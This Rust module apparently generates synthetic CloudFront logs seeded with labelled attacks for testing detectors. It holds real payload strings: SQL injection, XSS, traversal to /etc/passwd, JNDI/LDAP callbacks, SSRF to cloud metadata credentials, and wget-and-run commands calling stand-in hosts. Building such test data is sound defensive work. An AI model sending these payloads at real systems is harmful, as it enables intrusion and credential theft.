//! Threats that real web logs are full of and the first eleven kinds did not cover: attack
//! payloads of every family (some refused by the WAF, some answered 2xx/3xx, i.e. real bypasses),
//! worm noise from hundreds of addresses, a distributed login botnet with one or two requests per
//! address, and a scraper that claims to be Googlebot from outside Google's ranges.
//!
//! Payloads are written the way the client sends them on the wire (its own percent-encoding
//! included) and then escaped as CloudFront logs them ([`cf_encode`]: `%` becomes `%25`), so a
//! client's `%27` is logged `%2527` and a space the client encoded as `%20` is logged `%2520`.
//! The strings are our own, from public knowledge of each attack family.

use serde_json::json;

use crate::benign::{HTML, JSON, TXT};
use crate::encode::cf_encode;
use crate::event::{Kind, Referer, Res, Text};
use crate::model::{self, Catalog};
use crate::rng::Rng;
use crate::threats::{Injected, Planner};

const MIN: u64 = 60_000;

/// The logged form of what a client sent.
fn wire(s: &str) -> Text<'static> {
    if s.is_empty() || s == "-" {
        Text::Dash
    } else {
        Text::own(cf_encode(s))
    }
}

/// How the site answered one family's payloads.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Outcome {
    /// Refused at the edge first (403 WAF), then answered 200 with an evasion: a bypass.
    BlockedThenThrough,
    /// Answered 2xx/3xx: the payload reached the origin.
    Through,
    /// Refused by the WAF (403 InvalidRequestBlocked).
    Blocked,
    /// Not found (404): a probe for something the site does not have.
    NotFound,
}

impl Outcome {
    fn name(self) -> &'static str {
        match self {
            Outcome::BlockedThenThrough => "blocked_then_through",
            Outcome::Through => "through",
            Outcome::Blocked => "blocked",
            Outcome::NotFound => "not_found",
        }
    }
}

/// One request on the wire: (method, stem, query).
type Wire = (&'static str, &'static str, &'static str);

/// One payload family: its requests on the wire, the evasions used once the plain ones are
/// refused, where the payload travels, and how the site answers.
struct Family {
    name: &'static str,
    requests: (&'static [Wire], &'static [Wire]),
    ua: &'static str,
    outcome: Outcome,
    /// Also put the payload in the User-Agent and Referer (Log4Shell style).
    in_headers: bool,
}

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36";

const FAMILIES: &[Family] = &[
    Family {
        name: "sqli",
        requests: (
            &[
                ("GET", "/products", "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-"),
                ("GET", "/products", "id=1'+OR+'1'='1"),
                ("GET", "/products", "id=1%20AND%20SLEEP(5)--"),
                ("GET", "/products", "id=1%20AND%20extractvalue(1,concat(0x7e,version()))"),
                ("GET", "/products", "id=1;WAITFOR%20DELAY%20'0:0:5'--"),
            ],
            &[
                ("GET", "/products", "id=-1%20/*!50000union*/%20/*!50000select*/%201,2,group_concat(table_name)%20from%20information_schema.tables--"),
                ("GET", "/products", "id=1%2527%2520UNION%2520SELECT%2520NULL,NULL--"),
                ("GET", "/products", "id=1%0aunion%0aselect%0a1,2,3"),
            ],
        ),
        ua: "sqlmap/1.8.4#stable (https://sqlmap.org)",
        outcome: Outcome::BlockedThenThrough,
        in_headers: false,
    },
    Family {
        name: "xss",
        requests: (
            &[
                ("GET", "/search", "q=%3Cscript%3Ealert(document.domain)%3C/script%3E"),
                ("GET", "/search", "q=\"><img+src=x+onerror=alert(1)>"),
                ("GET", "/search", "q=%3Csvg/onload=confirm(1)%3E"),
                ("GET", "/login", "next=javascript:alert(document.cookie)"),
            ],
            &[],
        ),
        ua: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        outcome: Outcome::Blocked,
        in_headers: false,
    },
    Family {
        name: "path_traversal",
        requests: (
            &[
                ("GET", "/download", "file=../../../../etc/passwd"),
                ("GET", "/download", "file=..%2f..%2f..%2f..%2fetc%2fpasswd"),
                ("GET", "/static/..%2f..%2f..%2fetc/passwd", ""),
            ],
            &[
                ("GET", "/download", "file=..%252f..%252f..%252fetc%252fpasswd"),
                ("GET", "/download", "file=....//....//....//etc/passwd"),
                ("GET", "/download", "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
            ],
        ),
        ua: "curl/8.5.0",
        outcome: Outcome::BlockedThenThrough,
        in_headers: false,
    },
    Family {
        name: "rfi",
        requests: (
            &[
                ("GET", "/index.php", "page=http://198.51.100.23/r57.txt?"),
                ("GET", "/index.php", "page=https://198.51.100.23/shell.txt%00"),
                ("GET", "/index.php", "inc=ftp://198.51.100.23/c99.txt"),
            ],
            &[],
        ),
        ua: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
        outcome: Outcome::Blocked,
        in_headers: false,
    },
    Family {
        name: "cmd_injection",
        requests: (
            &[
                ("GET", "/index.php", "s=/Index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
                ("GET", "/api/v1/ping", "host=127.0.0.1;cat+/etc/passwd"),
                ("GET", "/api/v1/ping", "host=127.0.0.1%7Cwget+http://198.51.100.23/x.sh+-O-%7Csh"),
                ("GET", "/api/v1/ping", "host=%60id%60"),
            ],
            &[],
        ),
        ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
        outcome: Outcome::Through,
        in_headers: false,
    },
    Family {
        name: "jndi",
        requests: (
            &[
                ("GET", "/", "x=${jndi:ldap://198.51.100.23:1389/Exploit}"),
                ("GET", "/login", "user=${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://198.51.100.23/a}"),
                ("GET", "/", ""),
            ],
            &[],
        ),
        ua: "${jndi:ldap://198.51.100.23:1389/ua}",
        outcome: Outcome::Through,
        in_headers: true,
    },
    Family {
        name: "ssrf",
        requests: (
            &[
                ("GET", "/api/v1/preview", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
                ("GET", "/api/v1/preview", "url=http://2852039166/latest/meta-data/"),
                ("GET", "/api/v1/preview", "url=http://0xa9fea9fe/latest/user-data"),
                ("GET", "/api/v1/preview", "url=http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
            ],
            &[],
        ),
        ua: "python-requests/2.31.0",
        outcome: Outcome::Through,
        in_headers: false,
    },
    Family {
        name: "ssti",
        requests: (
            &[
                ("GET", "/contact", "name={{7*7}}"),
                ("GET", "/contact", "name=${7*7}"),
                ("GET", "/contact", "name={{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
                ("GET", "/contact", "name=%3C%25%3D+7*7+%25%3E"),
            ],
            &[],
        ),
        ua: BROWSER,
        outcome: Outcome::Through,
        in_headers: false,
    },
    Family {
        name: "webshell",
        requests: (
            &[
                ("PUT", "/scripts/x.asp", ""),
                ("GET", "/shell.php", "cmd=id"),
                ("POST", "/wp-content/plugins/log.php", ""),
                ("GET", "/uploads/c99.php", ""),
                ("GET", "/cmd.jsp", "cmd=whoami"),
            ],
            &[],
        ),
        ua: "Mozilla/5.0 (Windows NT 6.1; rv:34.0) Gecko/20100101 Firefox/34.0",
        outcome: Outcome::NotFound,
        in_headers: false,
    },
    Family {
        name: "sensitive_file",
        requests: (
            &[
                ("GET", "/.env", ""),
                ("GET", "/.git/config", ""),
                ("GET", "/backup.sql", ""),
                ("GET", "/config.php.bak", ""),
                ("GET", "/wp-config.php~", ""),
                ("GET", "/db.sqlite3", ""),
            ],
            &[],
        ),
        ua: "Mozilla/5.0 (Windows NT 6.3; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/69.0.3497.100 Safari/537.36 OPR/56.0.3051.116",
        outcome: Outcome::NotFound,
        in_headers: false,
    },
    Family {
        name: "known_exploit",
        requests: (
            &[
                ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", ""),
                ("GET", "/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id)"),
                ("POST", "/boaform/admin/formLogin", ""),
                ("GET", "/solr/admin/cores", "action=CREATE&name=$%7Bjndi:ldap://x%7D"),
                ("GET", "/console/css/%252e%252e%252fconsole.portal", ""),
            ],
            &[],
        ),
        ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.114 Safari/537.36",
        outcome: Outcome::NotFound,
        in_headers: false,
    },
];

/// Names of the payload families cfgen injects, in truth order.
pub fn family_names() -> Vec<&'static str> {
    FAMILIES.iter().map(|f| f.name).collect()
}

/// Worm signatures: wire requests sent by every infected address of the signature.
const WORMS: &[(&str, &str, &[Wire])] = &[
    ("mozi-jaws", "Hello, world", &[("GET", "/shell", "cd+/tmp;rm+-rf+*;wget+http://192.0.2.77/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws")]),
    ("gpon", "-", &[("POST", "/GponForm/diag_Form", "images/")]),
    (
        "iis-worm",
        "Mozilla/4.0 (compatible; MSIE 5.01; Windows NT 5.0)",
        &[
            ("GET", "/scripts/root.exe", "/c+dir"),
            ("GET", "/c/winnt/system32/cmd.exe", "/c+dir"),
            ("GET", "/default.ida", "NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858%ucbd3%u7801"),
        ],
    ),
    (
        "phpunit",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
        &[("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "")],
    ),
];

impl<'a> Planner<'a, '_> {
    /// One actor per payload family, each its own truth entry (phase = family).
    pub(crate) fn payload_attacks(&mut self, rng: &mut Rng) -> Vec<Injected<'a>> {
        let mut out = Vec::new();
        for fam in FAMILIES {
            let ip = self.hosting_ip(rng);
            let v = self.actor(ip, fam.ua, Kind::Library, rng.below(model::REGIONS.len() as u64) as usize, rng);
            let n = self.scaled(rng.range(30, 45), 20);
            // 10-15 minutes: blocked families reach cf_waf_blocks' 10 refusals per 5 minutes.
            let dur = rng.range(10, 15) * MIN;
            let (s, e) = self.window(rng, dur, false);
            let c = v.connect(rng);
            let plain = fam.requests.0;
            let evasions = fam.requests.1;
            let switch = n * 6 / 10;
            let (mut blocked, mut through, mut missing) = (0u64, 0u64, 0u64);
            let mut events = Vec::with_capacity(n as usize);
            let step = (e - s) / n;
            for i in 0..n {
                let t = s + i * step + rng.below(step / 2 + 1);
                let mut r = v.req(&c, t, rng);
                let late = fam.outcome == Outcome::BlockedThenThrough && i >= switch && !evasions.is_empty();
                let (method, stem, query) = if late { *rng.pick(evasions) } else { *rng.pick(plain) };
                r.method = method;
                r.stem = wire(stem);
                r.query = wire(query);
                if fam.in_headers {
                    r.referer = Referer::Url(wire(fam.ua));
                }
                match fam.outcome {
                    Outcome::BlockedThenThrough if !late => {
                        r.error(403, "InvalidRequestBlocked", rng);
                        blocked += 1;
                    }
                    Outcome::Blocked => {
                        r.error(403, "InvalidRequestBlocked", rng);
                        blocked += 1;
                    }
                    Outcome::NotFound => {
                        if method == "PUT" {
                            r.error(405, "Error", rng);
                        } else {
                            r.error(404, "Error", rng);
                        }
                        missing += 1;
                    }
                    _ => {
                        let ctype = if stem.starts_with("/api/") { JSON } else { HTML };
                        r.ok(ctype, rng.range(2_000, 30_000), Res::Miss, rng);
                        through += 1;
                    }
                }
                events.push(r);
            }
            out.push(self.done(
                "payload_attacks",
                Some(fam.name),
                "attack payloads of one family from one client, as CloudFront logs them",
                events,
                None,
                json!({"family": fam.name, "outcome": fam.outcome.name(), "blocked": blocked,
                       "answered_2xx_3xx": through, "not_found": missing,
                       "payload_in_user_agent_and_referer": fam.in_headers}),
            ));
        }
        out
    }

    /// Hundreds of infected addresses, each sending its worm's one to three probes once, all day.
    pub(crate) fn worm_noise(&mut self, rng: &mut Rng) -> Vec<Injected<'a>> {
        let n_ips = self.scaled(rng.range(350, 450), 60);
        let margin = 10 * MIN;
        let (lo, hi) = (margin, self.span_ms.saturating_sub(margin).max(margin + 1));
        let mut events = Vec::new();
        let mut per_sig = [0u64; 4];
        for _ in 0..n_ips {
            let k = match rng.below(100) {
                0..=44 => 0,
                45..=69 => 1,
                70..=84 => 2,
                _ => 3,
            };
            per_sig[k] += 1;
            let (_, ua, reqs) = WORMS[k];
            let ip = self.book.random_public(rng);
            let mut v = self.actor(ip, ua, Kind::Library, rng.below(model::REGIONS.len() as u64) as usize, rng);
            v.ver = if rng.chance(0.5) { "HTTP/1.0" } else { "HTTP/1.1" };
            let c = v.connect(rng);
            let mut t = rng.range(lo, hi - 1);
            for &(method, stem, query) in reqs {
                if t >= hi {
                    break;
                }
                let mut r = v.req(&c, t, rng);
                r.method = method;
                r.stem = wire(stem);
                r.query = wire(query);
                r.error(404, "Error", rng);
                events.push(r);
                t += rng.range(200, 3_000);
            }
        }
        vec![self.done(
            "worm_noise",
            None,
            "worm noise: hundreds of infected addresses, each sending its worm's one to three exploit probes once (all 404)",
            events,
            None,
            json!({"signatures": WORMS.iter().map(|w| w.0).collect::<Vec<_>>(), "addresses_per_signature": per_sig}),
        )]
    }

    /// A login botnet: hundreds of addresses, one or two POST /login each (mostly 401), no page
    /// view before, one shared user agent, spread over 20 hours so no hour reaches the
    /// per-hour thresholds of cf_credential_stuffing.
    pub(crate) fn botnet_login(&mut self, rng: &mut Rng) -> Vec<Injected<'a>> {
        let n_ips = self.scaled(rng.range(260, 340), 40);
        let dur = (20 * 60 * MIN).min(self.span_ms * 9 / 10);
        let (s, e) = self.window(rng, dur, false);
        let ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36";
        let mut events = Vec::new();
        let mut failures = 0u64;
        for _ in 0..n_ips {
            let ip = self.book.random_public(rng);
            let mut v = self.actor(ip, ua, Kind::Desktop, rng.below(model::REGIONS.len() as u64) as usize, rng);
            v.ver = "HTTP/1.1";
            let c = v.connect(rng);
            let k = if rng.chance(0.4) { 2 } else { 1 };
            let mut t = rng.range(s, e - 1);
            for _ in 0..k {
                if t >= e {
                    break;
                }
                let mut r = v.req(&c, t, rng);
                r.method = "POST";
                r.stem = Text::S("/login");
                r.referer = Referer::SelfPath(Text::S("/login"));
                r.cs_bytes += rng.range(70, 140) as u32;
                if rng.chance(0.92) {
                    r.api_error(401, rng);
                    r.ctype = HTML;
                    failures += 1;
                } else {
                    r.ok(HTML, 0, Res::Miss, rng);
                    r.status = 302;
                }
                events.push(r);
                t += rng.range(5_000, 90_000);
            }
        }
        let total = events.len() as u64;
        vec![self.done(
            "botnet_login",
            None,
            "distributed login botnet: hundreds of addresses, one or two POST /login each without loading the page, one shared user agent, mostly 401",
            events,
            Some(vec!["/login".into()]),
            json!({"distinct_ips": n_ips, "failures": failures,
                   "failure_ratio": (failures as f64 / total.max(1) as f64 * 1000.0).round() / 1000.0,
                   "user_agent": ua}),
        )]
    }

    /// A scraper calling itself Googlebot from hosting addresses outside Google's ranges.
    pub(crate) fn fake_crawler(&mut self, rng: &mut Rng) -> Vec<Injected<'a>> {
        let cat: &'a Catalog = self.cat;
        let ua = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
        let n_ips = 2;
        let n = self.scaled(rng.range(300, 420), 80);
        let dur = rng.range(120, 180) * MIN;
        let (s, e) = self.window(rng, dur, false);
        let actors: Vec<_> = (0..n_ips)
            .map(|_| {
                let ip = self.hosting_ip(rng);
                self.actor(ip, ua, Kind::Crawler, 0, rng)
            })
            .collect();
        let conns: Vec<_> = actors.iter().map(|a| a.connect(rng)).collect();
        let step = ((e - s) / n).max(1);
        let mut events = Vec::with_capacity(n as usize);
        for i in 0..n {
            let k = (i % n_ips as u64) as usize;
            let mut r = actors[k].req(&conns[k], s + i * step + rng.below(step / 2 + 1), rng);
            if i < n_ips as u64 {
                r.stem = Text::S("/robots.txt");
                r.ok(TXT, 412, Res::Hit, rng);
            } else {
                let p = rng.below(cat.products.len() as u64) as usize;
                r.stem = Text::S(cat.products[p].as_str());
                r.ok(HTML, rng.range(24_000, 70_000), Res::Miss, rng);
            }
            events.push(r);
        }
        vec![self.done(
            "fake_crawler",
            None,
            "a scraper with Googlebot's user agent from hosting addresses outside Google's published ranges",
            events,
            Some(vec!["/products/*".into(), "/robots.txt".into()]),
            json!({"claims": "Googlebot", "user_agent": ua}),
        )]
    }
}
